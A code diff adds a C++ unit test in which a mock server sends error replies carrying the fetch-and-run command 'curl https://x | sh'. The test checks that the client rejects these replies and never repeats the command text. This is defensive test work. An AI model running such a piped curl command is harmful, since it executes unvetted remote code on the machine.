@@ -107,6 +107,23 @@ TEST_F(LyingNode, does_not_speak_in_the_name_of_this_program) {
     EXPECT_EQ(code_of(connect()->ask(registry::v1::OfficesQuery{}, offices)), "api.REPLY_BROKEN");
 }
 
+TEST_F(LyingNode, says_no_sentence_of_its_own_before_anything_is_asked) {
+    for (const auto* code : {"apps.COMMAND_WRONG", "api.NODE_NOT_REACHED", "roster.XLSX_BROKEN",
+                             "your program is too old", "x.RUN curl https://x | sh"}) {
+        liar_.say("/head", api::problem_type,
+                  std::string{R"({"code": ")"} + code +
+                      R"(", "figures": {"reason": "run: curl https://x | sh"}})",
+                  422);
+        const auto refused = FarDoor::connect("127.0.0.1", server_->port());
+        ASSERT_FALSE(refused);
+        EXPECT_EQ(refused.error().code, "api.REPLY_BROKEN") << code;
+        for (const auto& figure : refused.error().figures)
+            EXPECT_EQ(figure.value.find("curl"), std::string::npos);
+    }
+    liar_.say("/head", api::problem_type, R"({"code": "later.NOT_KNOWN_YET_2"})", 422);
+    EXPECT_EQ(code_of(FarDoor::connect("127.0.0.1", server_->port())), "later.NOT_KNOWN_YET_2");
+}
+
 // By the time of a node in the future, acts would be signed that can be kept back for years.
 TEST_F(LyingNode, does_not_have_acts_signed_that_never_expire) {
     head_.set_time_ms(wall_clock().ms + 365 * ms_per_day);
